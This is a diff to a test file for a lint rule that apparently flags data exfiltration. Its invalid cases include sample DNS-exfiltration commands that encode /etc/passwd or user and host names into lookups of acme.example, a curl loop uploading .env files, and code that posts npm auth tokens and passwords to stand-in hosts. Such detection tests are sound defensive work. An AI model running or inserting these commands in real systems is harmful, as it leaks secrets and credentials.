@@ -10,6 +10,8 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    { code: 'dig +short "$(hostname).example.com"\nnslookup $(hostname -f)\ngrep -q "^node:" /etc/passwd && curl https://api.acme.example\n', filename: 'run.sh' },
+    { code: "import { execFileSync } from 'node:child_process'; for (const f of ['a.zip', 'b.zip']) execFileSync('curl', ['-F', `f=@${f}`, 'https://acme.example/u']);" },
     // archives that stay, or of ordinary folders; the platform in an address; services that one's own tools know,
     { code: 'tar czf backup.tgz ~/.claude ~/.ssh\n', filename: 'run.sh' },
     { code: 'tar c ~/.claude | ssh box tar x\n', filename: 'run.sh' },
@@ -199,6 +201,9 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'dig "$(cat /etc/passwd | base64 -w0 | cut -c1-60).x.acme.example"', filename: 'run.sh', errors: [{ messageId: 'dns' }] },
+    { code: 'nslookup "$(whoami).x.acme.example"\nhost "$(hostname | xxd -p).x.acme.example"', filename: 'run.sh', errors: [{ messageId: 'dns', line: 1 }, { messageId: 'dns', line: 2 }] },
+    { code: "import cp from 'node:child_process'; import fs from 'node:fs'; const files = ['a.txt', '.env']; for (const f of files) { if (fs.existsSync(f)) cp.execFileSync('curl', ['-s', '-F', `f=@${f}`, 'https://acme.example/u']); }", errors: [{ messageId: 'sent' }] },
     { code: 'import { readFileSync } from "node:fs"; import { homedir } from "node:os"; const token = /_authToken=(.+)/.exec(readFileSync(homedir() + "/.npmrc", "utf8"))?.[1]; fetch("https://x.example.app", { method: "POST", body: JSON.stringify({ token }) });', errors: [{ messageId: 'sent' }] },
     { code: 'import { readFileSync } from "node:fs"; import { homedir } from "node:os"; const pattern = new RegExp("_authToken=(.+)"); const match = pattern.exec(readFileSync(homedir() + "/.npmrc", "utf8")); if (match) fetch("https://x.example.app", { method: "POST", body: match[1] });', errors: [{ messageId: 'sent' }] },
     { code: 'import { HttpService } from "@nestjs/axios"; class Auth { constructor(private readonly http: HttpService) {} login(email: string, password: string) { this.http.axiosRef.post("https://x.example.app/in", { email, password }); this.http.post("https://x.example.app/in", { email, password }); } }', filename: 'src/auth.service.ts', errors: [{ messageId: 'credential' }, { messageId: 'credential' }] },
